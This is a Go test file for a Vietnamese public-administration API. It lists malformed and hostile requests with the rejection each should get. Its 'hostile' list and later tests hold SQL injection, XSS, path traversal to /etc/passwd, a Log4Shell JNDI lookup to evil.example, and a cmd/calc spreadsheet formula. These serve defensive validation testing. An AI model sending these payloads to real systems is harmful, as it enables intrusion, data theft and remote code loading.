@@ -1,0 +1,327 @@
+package api_test
+
+import (
+	"encoding/binary"
+	"net/url"
+	"strings"
+	"testing"
+)
+
+// What is written well and says what cannot be: by the rooms of the server.
+func (s *standing) wrongContents(*testing.T) (list []bad) {
+	add := func(name, method, path, body string, status int, code string, header ...string) {
+		list = append(list, bad{name: name, method: method, path: path, body: body, header: header, status: status, code: code})
+	}
+	s.wrongAddresses(add)
+	s.wrongQuestions(add)
+	s.wrongEvents(add)
+	s.wrongPlans(add)
+	s.wrongDrafts(add)
+	s.wrongLaw(add)
+	s.wrongDossiers(add)
+	return list
+}
+
+// adder adds a bad request.
+type adder func(name, method, path, body string, status int, code string, header ...string)
+
+// hostile is texts that look like something else to a database, a page, a file
+// system, a terminal or a person.
+var hostile = []string{
+	`'; DROP TABLE log; --`, `1' OR '1'='1`, `" UNION SELECT * FROM log --`, `<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`,
+	`../../../../etc/passwd`, `..\..\windows\win.ini`, `%00`, `${jndi:ldap://evil.example}`, `{{7*7}}`, `=cmd|' /C calc'!A0`, "\r\nSet-Cookie: a=b", "\x1b[2J", "%s%n",
+}
+
+// Addresses that are none, and such as try to leave theirs.
+func (s *standing) wrongAddresses(add adder) {
+	for _, path := range []string{"/api/v1/none", "/api/v2/plans", "/api/v1", "/api/v1/", "/api/v1/plans/", "/api/v1//plans", "/api/v1/./plans", "/api/v1/x/../plans", "/api/v1/%2e%2e/plans", "/api/v1/..%2fplans", "/api/v1/plans%00", "/api/v1/Plans",
+		"/api/v1/drafts/", "/api/v1/drafts/%2e%2e%2f%2e%2e%2fetc%2fpasswd/x", "/api/v1/drafts//accept", "/api/v1/openapi.yaml/", "/api/v1/../../etc/passwd", "/api/.git/config", "/api/v1/drafts/a/b/c"} {
+		add("address", "GET", path, "", 404, "not-found")
+	}
+	add("address", "POST", "/api/v1//events", "{}", 404, "not-found")
+	add("address", "POST", "/api/v1/openapi.yaml", "{}", 405, "method")
+	for _, id := range append(hostile, "00000000-0000-0000-0000-000000000000", strings.Repeat("x", 5000), "\u202e", "\xff") {
+		add("another's identifier", "GET", "/api/v1/drafts/"+url.PathEscape(id), "", 404, "unknown-draft")
+	}
+}
+
+// Questions about what is not there, or that mean nothing.
+func (s *standing) wrongQuestions(add adder) {
+	get := func(name string, status int, code, path string, query ...string) {
+		add(name, "GET", at("/api/v1/"+path, query...), "", status, code)
+	}
+	for _, text := range hostile {
+		unseen := 400
+		if !strings.ContainsAny(text, "\r\x1b") {
+			unseen = 404
+		}
+		code := func(unknown string) string {
+			if unseen == 400 {
+				return "bad-parameter"
+			}
+			return unknown
+		}
+		get("hostile", unseen, code("unknown-plan"), "due", "plan", text)
+		get("hostile", unseen, code("unknown-plan"), "plan", "plan", text)
+		get("hostile", unseen, code("unknown-plan"), "plan/versions", "plan", text)
+		get("hostile", unseen, code("unknown-obligation"), "events", "obligation", text)
+		get("hostile", unseen, code("unknown-dossier"), "dossier", "code", text)
+		get("hostile", 404, "unknown-body", "due", "plan", number, "body", text)
+		get("hostile", 404, "unknown-body", "body", "name", text)
+		get("hostile", 400, "bad-parameter", "due", "plan", number, "asOf", text)
+		get("hostile", 400, "bad-parameter", "bodies", "class", text)
+		get("hostile", 400, "bad-parameter", "deadline", "from", "2024-04-25", "term", text)
+		get("hostile", 400, "bad-parameter", "report", "plan", number, "period", text)
+	}
+	for _, day := range []string{"2024-02-30", "2024-13-01", "20240625", "25/6/2024", "0000-00-00", "2024-6-5", "tomorrow", "", " 2024-06-25", "2024-06-25T00:00:00Z", "-2024-06-25", "10000-01-01", "२०२४-०६-२५"} {
+		for _, path := range []string{"due", "body?name=VPCP", "tally", "calendar?year=2024&knownOn="} {
+			of, rest, _ := strings.Cut(path, "?")
+			if rest == "" {
+				get("no day", 400, "bad-parameter", of, "asOf", day)
+			} else if strings.Contains(rest, "knownOn") {
+				get("no day", 400, "bad-parameter", of, "year", "2024", "knownOn", day)
+			} else {
+				get("no day", 400, "bad-parameter", of, "name", "VPCP", "asOf", day)
+			}
+		}
+	}
+	for _, period := range []string{"", "2024-13", "2024-Q5", "2024-H3", "24", "2024/06", "Q2-2024", "2024-06-25", strings.Repeat("9", 900)} {
+		get("no period", 400, "bad-parameter", "report", "plan", number, "period", period)
+		get("no period", 400, "bad-parameter", "tally", "first", period)
+	}
+	for _, q := range [][2]string{{"first", "2024-07"}, {"last", "2024-Q1"}, {"grain", "quarter"}} {
+		get("periods of two lengths", 400, "bad-parameter", "tally", "first", "2024-06", "last", "2024-05", q[0]+"", q[1])
+	}
+	for _, term := range []string{"", "5", "ngày", "-", "99999999999999999999 ngày", "1e9 ngày làm việc", "5 ngày làm việc rưỡi nữa"} {
+		get("no term", 400, "bad-parameter", "deadline", "from", "2024-04-25", "term", term)
+	}
+	for _, pause := range []string{"", "..", "2024-04-26", "2024-04-28..2024-04-26", "2024-04-26..x", "2024-04-26...2024-04-27"} {
+		get("no pause", 400, "bad-parameter", "deadline", "from", "2024-04-25", "term", "5 ngày làm việc", "pause", pause)
+	}
+	for _, hour := range []string{"", "25:00", "15", "15:60", "3pm", "15:00:00"} {
+		get("no hour", 400, "bad-parameter", "deadline", "from", "2024-04-25T10:00", "term", "5 ngày làm việc", "cutOff", hour)
+	}
+	for _, within := range []string{"", "30", "d", "-1d", "1.5d", "99999999999999999999d", "30 d"} {
+		get("no span", 400, "bad-parameter", "due", "plan", number, "within", within)
+	}
+	for _, cursor := range []string{"x", "-1", "1.5", "99999999", "9223372036854775808", "1e3", " 1"} {
+		get("no cursor", 410, "unknown-cursor", "changes", "after", cursor)
+	}
+	for _, path := range []string{"drafts", "notices", "bodies"} {
+		get("no row", 400, "bad-parameter", path, "after", "none such")
+	}
+	get("no row", 400, "bad-parameter", "due", "plan", number, "after", "none such")
+	get("no row", 400, "bad-parameter", "events", "obligation", obligation, "after", "none such")
+	get("no row", 400, "bad-parameter", "plan/versions", "plan", number, "after", "none such")
+	get("no row", 400, "bad-parameter", "tally", "after", "none such")
+	for _, year := range []string{"1999", "2101", "0", "-2024"} {
+		get("no year", 400, "bad-parameter", "calendar", "year", year)
+	}
+	get("another's identifier", 404, "unknown-obligation", "events", "obligation", "240/QĐ-TTg#15#to-pho#2024-03-19")
+	get("another's identifier", 404, "ended-body", "due", "plan", "240/QĐ-TTg", "asOf", "2025-06-01", "body", "G14")
+	// As long as a name may be here, and of many words: what compares it with all names is soon done.
+	for _, long := range []string{strings.Repeat("x", 1000), strings.Repeat("ủy ban ", 100), strings.Repeat("a ", 499), strings.Repeat("ộ", 333), strings.Repeat("\u0301", 499)} {
+		get("a long name", 404, "unknown-body", "body", "name", long)
+		get("a long name", 404, "unknown-body", "due", "plan", number, "body", long)
+		get("a long name", 404, "unknown-body", "bodies", "under", long)
+		get("a long name", 404, "unknown-plan", "plan", "plan", long)
+	}
+	for _, path := range []string{"drafts/" + s.sample["id"]} {
+		add("method", "DELETE", "/api/v1/"+path, "", 405, "method")
+	}
+}
+
+// Events that nobody could record.
+func (s *standing) wrongEvents(add adder) {
+	const whole = `{"v":1,"id":"key-0009","obligation":"` + obligation + `","type":"done","day":"2024-03-18","document":"5/BC"}`
+	event := func(name, from, to string, status int, code string) {
+		add(name, "POST", "/api/v1/events", strings.Replace(whole, from, to, 1), status, code)
+		if code == "bad-event" {
+			add(name+" among many", "POST", "/api/v1/events", strings.Replace(whole, "key-0009", "key-0010", 1)+"\n"+strings.Replace(whole, from, to, 1)+"\n", status, code, "Content-Type", "application/x-ndjson")
+		}
+	}
+	wrong := func(name, from, to string) { event(name, from, to, 400, "bad-event") }
+	for _, field := range []string{`"v":1,`, `"id":"key-0009",`, `"type":"done",`, `"day":"2024-03-18",`} {
+		wrong("a field is missing", field, "")
+	}
+	for _, value := range []string{"1", "true", "[]", "{}", "null", `""`, `["key-0009"]`, `{"$ne":""}`} {
+		wrong("a wrong type", `"key-0009"`, value)
+		wrong("a wrong type", `"done"`, value)
+		wrong("a wrong type", `"2024-03-18"`, value)
+	}
+	for _, r := range []string{`\u0000`, `\u0007`, `\n`, `\u001b[2J`, `\u200b`, `\u200d`, `\u200f`, `\u202a`, `\u202e`, `\u2066`, `\u2069`, `\ufeff`, `\u00ad`, `\u2060`, `\ufe0f`, `\udb40\udc41`, `\u2028`, `\u3164`} {
+		wrong("an unseen character in an identifier", "key-0009", "key-0009"+r)
+	}
+	wrong("a length", "key-0009", "k")
+	wrong("a length", "key-0009", strings.Repeat("k", 101))
+	wrong("a length", "5/BC", strings.Repeat("5", 201))
+	wrong("a length", `"document":"5/BC"`, `"note":"`+strings.Repeat("x", 4001)+`"`)
+	wrong("a length", `"document":"5/BC"`, `"by":"`+strings.Repeat("x", 301)+`"`)
+	for _, day := range []string{"2024-02-30", "2024-06-26", "18/3/2024", "2024-03-18T00:00:00Z", "9999-12-31", "1024-03-18"} {
+		wrong("a day", `"2024-03-18"`, `"`+day+`"`)
+	}
+	for _, text := range []string{`'; DROP TABLE log; --`, `<script>alert(1)</script>`, "DONE", "done ", "deleted"} {
+		wrong("hostile", `"done"`, `"`+text+`"`)
+	}
+	for _, text := range []string{`'; DROP TABLE log; --`, `<script>alert(1)</script>`, "../../etc/passwd", "16/QĐ-TCTCCTTHC#15#to-pho#2024-03-20", "16/QĐ-TCTCCTTHC#15#to-pho", "7/KH-UBND#9#x#2024-03-31", strings.Repeat("x", 10_000)} {
+		event("another's identifier", obligation, text, 404, "unknown-obligation")
+	}
+	wrong("what the server writes", `"v":1,`, `"v":1,"recorded":"2024-03-18T08:00:00+07:00",`)
+	wrong("an unknown key", `"v":1,`, `"v":1,"status":"done-on-time",`)
+	wrong("a doubled key", `"v":1,`, `"v":1,"id":"key-0008",`)
+	wrong("corrects nothing", `"document"`, `"corrects":"none-such","document"`)
+	wrong("an extension without a day", `"done"`, `"extended"`)
+	replayed := strings.NewReplacer("key-0009", "key-0001", "5/BC", "6/BC").Replace(whole)
+	add("replayed with other content", "POST", "/api/v1/events", replayed, 422, "key-reused")
+	add("replayed with other content", "POST", "/api/v1/events", replayed+"\n", 400, "bad-event", "Content-Type", "application/x-ndjson")
+	add("one key twice", "POST", "/api/v1/events", whole+"\n"+strings.Replace(whole, "5/BC", "6/BC", 1)+"\n", 400, "bad-event", "Content-Type", "application/x-ndjson")
+	add("too many", "POST", "/api/v1/events", strings.Repeat(whole+"\n", 10_001), 400, "bad-event", "Content-Type", "application/x-ndjson")
+	add("oversized", "POST", "/api/v1/events", strings.Replace(whole, "5/BC", strings.Repeat("x", 64<<10), 1), 413, "too-large")
+	add("oversized", "POST", "/api/v1/events", strings.Repeat(" ", 16<<20+1), 413, "too-large", "Content-Type", "application/x-ndjson")
+	for _, lines := range []string{"{", whole + "\n{\n", "\n\nnull\n", "\x00", whole + "\r" + whole, whole + "," + whole, "[" + whole + "]", utf16Text(binary.LittleEndian, whole), strings.Repeat("[", 30_000)} {
+		add("no lines of JSON", "POST", "/api/v1/events", lines, 400, "bad-event", "Content-Type", "application/x-ndjson")
+	}
+}
+
+// Plans that nobody could carry out.
+func (s *standing) wrongPlans(add adder) {
+	fresh := strings.Replace(small, "7/KH-UBND", "8/KH-UBND", 1)
+	plan := func(name, from, to string) {
+		add(name, "POST", "/api/v1/plans", strings.Replace(fresh, from, to, 1), 400, "bad-plan")
+	}
+	for _, field := range []string{`"v":1,`, `"number":"8/KH-UBND",`, `"title":"Kế hoạch",`, `"issuer":"UBND tỉnh Bắc Ninh",`, `"from":"2024-01-01",`, `"to":"2024-12-31",`, `"id":"1",`, `"title":"Rà soát quy định",`, `"leads":["Sở Tư pháp"],`} {
+		plan("a field is missing", field, "")
+	}
+	for _, value := range []string{"1", "[]", "{}", "null", `""`, `" "`} {
+		plan("a wrong type", `"8/KH-UBND"`, value)
+		plan("a wrong type", `"UBND tỉnh Bắc Ninh"`, value)
+		plan("a wrong type", `["Sở Tư pháp"]`, value)
+	}
+	for _, r := range []string{`\u0000`, `\n`, `\u200b`, `\u202e`, `\u2067`, `\ufeff`, `#`} {
+		plan("an unseen character in an identifier", "8/KH-UBND", "8/KH"+r)
+		plan("an unseen character in an identifier", `"id":"1"`, `"id":"1`+r+`"`)
+	}
+	plan("a length", "8/KH-UBND", strings.Repeat("8", 301))
+	plan("a length", "Kế hoạch", strings.Repeat("ế", 301))
+	plan("a day", "2024-01-10", "2024-02-30")
+	plan("a day", `"to":"2024-12-31"`, `"to":"2023-12-31"`)
+	plan("a day", "2024-03-31", "2030-03-31")
+	plan("one task twice", `"id":"2"`, `"id":"1"`)
+	plan("one body twice", `["Sở Tư pháp"]`, `["Sở Tư pháp","Sở  tư pháp"]`)
+	plan("an unknown key", `"v":1,`, `"v":1,"admin":true,`)
+	plan("a doubled key", `"v":1,`, `"v":1,"number":"7/KH-UBND",`)
+	plan("a huge number", `"exclusive":true`, `"exclusive":true,"month":1e300`)
+	plan("no rule", `"kind":"deadline"`, `"kind":"<script>"`)
+	plan("no rule", `"kind":"continuous"`, `"kind":"recurring","every":["P99999999999999999999M"]`)
+	add("replayed with other content", "POST", "/api/v1/plans", strings.Replace(small, "Rà soát", "Kiểm tra", 1), 409, "plan-exists")
+	add("another's identifier", "POST", "/api/v1/plans", strings.Replace(small, "7/KH-UBND", number, 1), 409, "plan-exists")
+	add("oversized", "POST", "/api/v1/plans", strings.Repeat(" ", 4<<20+1), 413, "too-large")
+	own := at("/api/v1/plan", "plan", "7/KH-UBND")
+	for _, tag := range []string{"", "1", `"x"`, `W/"1"`, `"-1"`, `"01"`, `"1", "2"`, "*", `"99999999999999999999"`} {
+		add("no version", "PUT", own, small, 428, "precondition-required", "If-Match", tag)
+		add("no version", "PUT", "/api/v1/drafts/"+s.sample["id"], small, 428, "precondition-required", "If-Match", tag)
+		add("no version", "POST", "/api/v1/drafts/"+s.sample["id"]+"/accept", "", 428, "precondition-required", "If-Match", tag)
+	}
+	add("another version", "PUT", own, strings.Replace(small, "Rà soát", "Kiểm tra", 1), 412, "version-conflict", "If-Match", `"0"`)
+	add("another version", "PUT", own, strings.Replace(small, "Rà soát", "Kiểm tra", 1), 412, "version-conflict", "If-Match", `"7"`)
+	add("another's identifier", "PUT", own, strings.Replace(small, "7/KH-UBND", "9/KH-UBND", 1), 400, "bad-plan", "If-Match", `"1"`)
+	add("another's identifier", "PUT", at("/api/v1/plan", "plan", "9/KH-UBND"), strings.Replace(small, "7/KH-UBND", "9/KH-UBND", 1), 404, "unknown-plan", "If-Match", `"1"`)
+}
+
+// Files that hold no table, and drafts of others.
+func (s *standing) wrongDrafts(add adder) {
+	octets := []string{"Content-Type", "application/octet-stream"}
+	for _, name := range []string{"bang", "bang.exe", "../../etc/passwd", "bang.xlsx\x01", "a.csv/", ".csv.gz", "<script>.html.js"} {
+		add("no table", "POST", at("/api/v1/drafts", "name", name, "year", "2024"), "a,b\n", 400, "bad-file", octets...)
+	}
+	for _, name := range []string{"bang.csv", "bang.tsv", "bang.html", "bang.xlsx", "bang.docx", "bang.pdf"} {
+		for _, file := range []string{"", "\x00\x00\x00\x00", "PK\x03\x04", "%PDF-1.7\n", "<html>", "\xff\xfe\x00", strings.Repeat("<table>", 20_000), strings.Repeat("a,", 20_000), "'; DROP TABLE log; --"} {
+			add("no table", "POST", at("/api/v1/drafts", "name", name, "year", "2024"), file, 400, "bad-file", octets...)
+		}
+	}
+	table := "Stt\tNhiệm vụ\tChủ trì\tThời gian\n1\tRà soát\tSở Tư pháp\tTrước ngày 30/6/2024\n"
+	for _, q := range [][2]string{{"column", "x"}, {"column", "=title"}, {"column", "Stt=nothing"}, {"from", "2024-02-30"}, {"to", "x"}, {"sheet", "none"}, {"year", "99999"}, {"number", "1\u200b"}} {
+		add("a wrong parameter", "POST", at("/api/v1/drafts", "name", "bang.tsv", "year", map[bool]string{true: q[1], false: "2024"}[q[0] == "year"])+map[bool]string{true: "", false: "&" + url.Values{q[0]: {q[1]}}.Encode()}[q[0] == "year"], table, 400, "bad-parameter", octets...)
+	}
+	add("another's identifier", "PUT", "/api/v1/drafts/none-such", small, 404, "unknown-draft", "If-Match", `"1"`)
+	add("another's identifier", "POST", "/api/v1/drafts/none-such/accept", "", 404, "unknown-draft", "If-Match", `"1"`)
+	add("another version", "POST", "/api/v1/drafts/"+s.sample["id"]+"/accept", "", 412, "version-conflict", "If-Match", `"2"`)
+	add("another version", "PUT", "/api/v1/drafts/"+s.sample["id"], small, 412, "version-conflict", "If-Match", `"2"`)
+}
+
+// Notices and bodies that cannot be.
+func (s *standing) wrongLaw(add adder) {
+	const notice = `{"v":1,"notices":[{"number":"2/TB","issued":"2024-06-01","days":[{"day":"2024-08-07","kind":"swap-off","for":"2024-08-10","reason":{"vi":"nghỉ"}},{"day":"2024-08-10","kind":"swap-working","for":"2024-08-07","reason":{"vi":"làm bù"}}]}]}`
+	for name, c := range map[string][2]string{
+		"no number": {`"number":"2/TB",`, ""}, "an empty number": {"2/TB", ""}, "an unseen character in an identifier": {"2/TB", `2/TB\u200b`}, "a turned identifier": {"2/TB", `2/TB\u202e`}, "a NUL": {"2/TB", `2\u0000`},
+		"no day": {"2024-08-07", "2024-02-30"}, "no kind": {"swap-off", "<script>"}, "no reason": {`"reason":{"vi":"nghỉ"}`, `"reason":{}`}, "no year": {`"issued"`, `"settles":[99999],"issued"`},
+		"an unknown key": {`"issued"`, `"x":1,"issued"`}, "a doubled key": {`"issued"`, `"number":"3/TB","issued"`}, "a wrong type": {`"2/TB"`, "2"}, "withdraws nothing": {`"issued"`, `"withdraws":[""],"issued"`},
+		"replayed with other content": {"2/TB", "1/TB"},
+	} {
+		add("a notice: "+name, "POST", "/api/v1/notices", strings.Replace(notice, c[0], c[1], 1), 400, "bad-law")
+		add("a notice to try: "+name, "POST", "/api/v1/notices?try=true", strings.Replace(notice, c[0], c[1], 1), 400, "bad-law")
+	}
+	for name, body := range map[string]string{
+		"no identifier": `"amendments":[{"on":"2024-06-01","kind":"rename","name":"x","source":"NQ 1"}]`, "nobody": `"amendments":[{"id":"G99","on":"2024-06-01","kind":"rename","name":"x","source":"NQ 1"}]`,
+		"hostile": `"amendments":[{"id":"'; DROP TABLE log; --","on":"2024-06-01","kind":"rename","name":"x","source":"NQ 1"}]`, "turned": `"amendments":[{"id":"G22\u202e","on":"2024-06-01","kind":"rename","name":"x","source":"NQ 1"}]`,
+		"no width": `"amendments":[{"id":"G2\u200b2","on":"2024-06-01","kind":"rename","name":"x","source":"NQ 1"}]`, "no day": `"amendments":[{"id":"G22","on":"2024-06-31","kind":"rename","name":"x","source":"NQ 1"}]`,
+		"no kind": `"amendments":[{"id":"G22","on":"2024-06-01","kind":"delete","name":"x","source":"NQ 1"}]`, "unknown key": `"bodies":[{"admin":true}]`, "no bodies": `"bodies":{}`, "succeeds nobody": `"successions":[{"from":"G98","to":"G99"}]`,
+	} {
+		add("bodies: "+name, "POST", "/api/v1/bodies", `{"v":1,`+body+`}`, 400, "bad-law")
+	}
+	for _, name := range []string{"units", "units.exe", "../units"} {
+		add("no units", "POST", at("/api/v1/bodies", "name", name), "a,b\n", 400, "bad-file", "Content-Type", "application/octet-stream")
+	}
+	for _, file := range []string{"", "\x00", "a,b\n1,2\n", "<html>", strings.Repeat("a,", 20_000)} {
+		add("no units", "POST", at("/api/v1/bodies", "name", "units.csv"), file, 400, "bad-file", "Content-Type", "application/octet-stream")
+	}
+	for _, known := range []string{`[{"kind":"x","text":"a"}]`, `{}`, `[1]`, `[{"kind":"name"}]`, `[{"text":"a"}]`, `null`} {
+		add("redact", "POST", "/api/v1/redact", `{"text":"x","known":`+known+`}`, 400, "bad-content")
+	}
+	add("redact", "POST", "/api/v1/redact", `{}`, 400, "bad-content")
+	add("redact", "POST", "/api/v1/redact", `{"text":"`+strings.Repeat("x", 5<<20)+`"}`, 413, "too-large")
+}
+
+// Dossiers that cannot be; of many, whole or none.
+func (s *standing) wrongDossiers(add adder) {
+	const one = `{"code":"x-1","revision":1,"body":"H26.1","procedure":"1.000001","status":4,"received":"2024-06-03"}`
+	wrong := func(name, from, to string) {
+		add(name, "POST", dossiersPath, strings.Replace(one, from, to, 1), 400, "bad-dossier")
+	}
+	for _, field := range []string{`"code":"x-1",`, `"body":"H26.1",`, `"procedure":"1.000001",`, `"status":4,`} {
+		wrong("a field is missing", field, "")
+	}
+	for _, value := range []string{"1", "[]", "{}", "true", `""`} {
+		wrong("a wrong type", `"x-1"`, value)
+		wrong("a wrong type", `"H26.1"`, value)
+		wrong("a wrong type", `"1.000001"`, value)
+		wrong("a wrong type", `"2024-06-03"`, value)
+	}
+	for _, value := range []string{"0", "11", "4.5", "-1", "1e300", `"four"`, strings.Repeat("9", 500)} {
+		wrong("a huge number", `"status":4`, `"status":`+value)
+	}
+	for _, r := range []string{`\u0000`, `\u0007`, `\n`, `\u200b`, `\u202e`, `\u2066`, `\ufeff`, `#`} {
+		wrong("an unseen character in an identifier", "x-1", "x-1"+r)
+	}
+	for _, text := range []string{`'; DROP TABLE log; --`, `<script>`, `H26\u202e`, `H26\u200b`} {
+		wrong("hostile", `"H26.1"`, `"`+text+`"`)
+	}
+	wrong("a length", "x-1", strings.Repeat("x", 101))
+	wrong("a day", "2024-06-03", "2024-02-30")
+	wrong("a day", "2024-06-03", "2024-06-26")
+	wrong("a doubled key", `"status":4`, `"status":4,"status":10`)
+	wrong("an unknown key", `"status":4`, `"status":4,"holder":"Nguyễn Văn Mẫu"`)
+	add("replayed with other content", "POST", dossiersPath, `{"code":"H26.1-1","revision":1,"body":"H26.1","procedure":"1.000001","status":4,"received":"2024-06-03"}`, 422, "key-reused")
+	add("oversized", "POST", dossiersPath, strings.Repeat(" ", 64<<10+1), 413, "too-large")
+	for _, media := range []string{"text/csv", "application/x-ndjson"} {
+		for name, body := range map[string]string{"no rows": "\x00\x00", "encoding": utf16Text(binary.LittleEndian, table), "a bad row": strings.Replace(table, "H26.1-1,H26.1", "H26.1-1,x", 1), "deep": strings.Repeat("[", 30_000), "one endless line": strings.Repeat("x", 1<<20), "SQL": "'; DROP TABLE log; --"} {
+			add("many: "+name, "POST", dossiersPath+"?whole=true", body, 400, "bad-dossier", "Content-Type", media)
+		}
+	}
+	for _, body := range []string{"null", "1", `"x"`, `{"hoSo":1}`, `{"hoSo":{"MaHoSo":1}}`, "[{}]"} {
+		add("an exchange", "POST", "/api/v1/dossiers/exchange?whole=true", body, 400, "bad-dossier")
+	}
+	for _, body := range []string{"{", strings.Repeat("[", 30_000), strings.Repeat(`{"hoSo":`, 10_000), "\xff\xfe{", "<hoSo/>"} {
+		add("an exchange that breaks off", "POST", "/api/v1/dossiers/exchange?whole=true", body, 400, "cut-off")
+	}
+}
